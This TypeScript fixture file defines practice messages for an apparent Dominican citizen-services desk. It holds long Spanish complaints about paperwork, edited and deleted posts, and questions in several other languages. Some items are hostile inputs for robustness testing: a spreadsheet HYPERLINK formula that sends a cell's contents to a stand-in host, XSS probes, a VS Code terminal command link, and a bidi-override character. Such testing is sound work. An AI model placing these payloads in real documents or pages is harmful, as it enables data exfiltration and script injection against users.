import { practiceTexts, type PracticeText } from '../practiceText';

const longStory = `Buenas tardes. Voy a contar esto con calma porque por teléfono siempre se corta y en la oficina nadie tiene tiempo de oír.

Mi suegro, que en paz descanse, dejó una casita de madera en Villa Altagracia. Para sacar la determinación de herederos nos pidieron su acta de defunción, y ahí empezó el viacrucis. En el libro del municipio su nombre está escrito "Eleuterio", con E; en la cédula decía "Heleuterio", con H, porque así lo pusieron en 1961 y así firmó toda la vida. La licenciada que lleva el caso dice que sin corregir esa letra no se mueve nada.

Fuimos primero a la oficialía: que eso se corrige en la capital. Fuimos a la capital: que con una carta del sindicato donde él trabajó. El sindicato ya no existe. Buscamos dos testigos vivos que lo conocieron de joven; uno tiene 88 años y lo llevamos en un carro prestado. Cuando por fin nos tocó, la persona que atendía nos dijo que faltaba "el formulario verde". Nadie había mencionado nunca un formulario verde. Ese día no quedaban.

Volvimos a la semana siguiente con el formulario verde, que al final me lo bajó un sobrino de internet y me costó cien pesos imprimirlo en el colmado. Entonces la ventanilla ya no era la ventanilla: la mudaron al segundo piso, sin ascensor, y mi esposa, que está operada de la cadera, se quedó abajo esperando mientras yo subía y bajaba con cada pregunta. Tres veces subí. La tercera ya estaban apagando las luces.

No escribo para pelear. Mi esposa llora cada vez que pasa por la casita y la ve cerrada, con el techo que se va cayendo un poco más con cada aguacero. Lo único que quiero saber es: ¿qué papeles, en cuál oficina, en qué orden, y si alguien puede darnos una fecha? Si me contestan por aquí se lo voy a leer a ella esta noche. Dios los bendiga y perdonen lo largo.`;

const repeatedPlea = `Resumen de mi semana con ustedes: lunes, sistema caído, me fui con mi número en la mano; martes, feriado que yo no sabía; miércoles, la persona encargada estaba en un taller; jueves, llegué al mostrador y el documento que me habían pedido el lunes ya no servía porque "cambiaron el formato"; viernes, cerraron a mediodía por fumigación. Cinco días de trabajo perdidos, cinco pasajes de ida y vuelta desde Ocoa, y mi hija preguntándome cada noche si ya tenemos el papel. Sumen ustedes, que para eso tienen computadoras: son 4,250 pesos en transporte y la paciencia completa de un hombre que no es de gritar. No me digan que complete una encuesta de satisfacción. Díganme una hora, un nombre y una ventanilla, y yo estoy ahí con los zapatos brillados.`;

/** Spanish texts that try what a desk must bear: long, linked, marked up, attached, edited, withdrawn, hostile. */
export const unusualSpanishTexts = practiceTexts('es', 'especial', [
  ['unu-01', 'negative', 'complaint', 'normal', 'case-status', longStory, { always: true }],
  ['unu-02', 'negative', 'complaint', 'normal', 'apology', repeatedPlea],
  ['unu-03', 'neutral', 'question', 'normal', 'hours-location', '¿Este es el horario correcto? La foto es de hoy en la puerta.', { images: ['Letrero pegado en una puerta de vidrio: «Lunes a jueves, 8 a 2. Viernes no hay sistema»'], always: true }],
  ['unu-04', 'neutral', 'question', 'normal', 'requirements', 'Leí en https://www.isc.example/tramites/identidad/renovacion/adultos?origen=redes&campana=2026 que piden dos fotos, pero en https://isc.example/faq dice que ninguna. ¿Cuál vale? #Trámites #Cédula'],
  ['unu-05', 'negative', 'complaint', 'high', 'payment-problem', 'Me cobraron 1,200 por algo que en su tarifario cuesta 200. Exijo devolución.', {
    edited: 'Me cobraron 1,200 por algo que en su tarifario cuesta 400. Exijo devolución. (Corrijo la cifra, son 400.)', always: true,
  }],
  ['unu-06', 'negative', 'complaint', 'normal', 'delay', 'Nadie me ha dicho cuándo me toca. Llegué a las 7 y ya son las 11 en la oficina de Bonao.', {
    later: { edit: 'Nadie me ha dicho cuándo me toca. Llegué a las 7 y ya es la 1 en la oficina de Bonao. ACTUALIZO: nos acaban de mandar para la casa.' }, always: true,
  }],
  ['unu-07', 'negative', 'complaint', 'normal', 'complaint-registered', 'Voy a decir con nombre y apellido quién me pidió dinero en la oficina, que se prepare.', { later: 'deleted', always: true }],
  ['unu-08', 'neutral', 'question', 'normal', 'acknowledgement', '=HYPERLINK("https://robo.example/?d="&A1,"Ver mi caso") ¿por qué me sale esto en el recibo que bajé de su página? @isc', { always: true }],
  ['unu-09', 'neutral', 'spam', 'low', null, '<script>alert("isc")</script><img src=x onerror=alert(1)> @isc [Abra su caso](command:workbench.action.terminal.new) &lt;b&gt;hola&lt;/b&gt; {{author}} ${nombre} %s', { always: true }],
  ['unu-10', 'neutral', 'question', 'normal', 'requirements', 'Me piden estos papeles: acta, cédula y dos fotos. ¿Falta alguno?', {
    html: '<p>{isc} Me piden estos papeles:</p><ul><li>acta</li><li>cédula y <strong>dos</strong> fotos</li></ul><p>¿Falta <em>alguno</em>?</p>', always: true,
  }],
  ['unu-11', 'negative', 'complaint', 'normal', 'outage', 'El aviso de la página dice "Estimado ciudadano, intente más tarde". Llevo tres días intentando más tarde.', {
    html: '<p>{isc} El aviso de la página dice:</p><blockquote><p>Estimado ciudadano, intente más tarde.</p></blockquote><p>Llevo tres días intentando <del>mañana</del> más tarde.<br>Código: <code>SVC_TMO</code></p>',
  }],
  ['unu-12', 'neutral', 'request', 'normal', 'private-details', 'Esto no lo puedo decir en público: el empleado que lleva mi expediente es el ex de mi hermana y lo tiene engavetado. ¿Con quién hablo?', { visibility: 'direct', always: true }],
  ['unu-13', 'negative', 'complaint', 'normal', 'complaint-registered', 'Encontré esto dentro de la funda con mis documentos, en la ventanilla de entrega. Miren bien la segunda.', {
    images: ['Cucaracha grande sobre un sobre manila', null, 'El mismo sobre con una mancha oscura'], spoiler: 'Insectos', always: true,
  }],
  ['unu-14', 'neutral', 'question', 'normal', 'case-status', 'Mi recibo dice \u202e84213\u202c y al pegarlo aquí se ve al revés. ¿Cuál es el número bueno?', { always: true }],
  ['unu-15', 'positive', 'praise', 'low', 'thanks', '👨‍👩‍👧‍👦 + 🪪 = 😍 Gracias 🇩🇴🙌🏽', { always: true }],
  ['unu-16', 'negative', 'complaint', 'normal', 'delay', 'Mi s̶o̶l̶i̶c̶i̶t̶u̶d̶ calvario sigue igual. Ｎａｄｉｅ responde. N\u200ba\u200bd\u200bi\u200be.'],
  ['unu-17', 'neutral', 'question', 'low', 'acknowledgement', 'Pásenme ese dato a mí también, que mi primo @luisito_rd@ejemplo.do y @marmolejos77 andan en lo mismo'],
  ['unu-18', 'neutral', 'request', 'normal', 'private-details', 'Sólo para ustedes y mis seguidores: ¿me confirman si mi denuncia sigue siendo anónima? Tengo miedo de represalias en el trabajo.', { visibility: 'private' }],
]);

/** What is neither Spanish nor English. */
export const otherLanguageTexts: readonly PracticeText[] = [
  ...practiceTexts('ar', 'especial', [
    ['oth-01', 'neutral', 'question', 'normal', 'hours-location', 'مرحبا، هل المكتب مفتوح يوم السبت؟ أحتاج إلى تصديق شهادة ميلاد ابنتي. شكرا', { always: true }],
  ]),
  ...practiceTexts('he', 'especial', [
    ['oth-02', 'neutral', 'question', 'normal', 'requirements', 'שלום, איבדתי את הדרכון שלי בפונטה קאנה. האם אפשר לקבל אישור אובדן במשרד בהיגואיי (Higüey)?'],
  ]),
  ...practiceTexts('ht', 'migracion', [
    ['oth-03', 'negative', 'complaint', 'normal', 'delay', 'Mwen gen sis mwa depi m ap tann papye a. Chak fwa m ale yo di m tounen demen. Tanpri, di m verite a.', { always: true }],
    ['oth-04', 'neutral', 'question', 'normal', 'requirements', 'Bonswa, ki dokiman mwen bezwen pou deklare pitit mwen ki fèt Santo Domingo?'],
  ]),
  ...practiceTexts('fr', 'certificado', [
    ['oth-05', 'neutral', 'question', 'normal', 'requirements', 'Bonjour, est-ce que vos apostilles sont reconnues en Belgique ? Mon notaire hésite.'],
  ]),
  ...practiceTexts('pt', 'cita', [
    ['oth-06', 'neutral', 'question', 'normal', 'appointment', 'Boa tarde, moro em Bávaro e preciso remarcar o atendimento de quinta-feira. Posso fazer por aqui?'],
  ]),
];
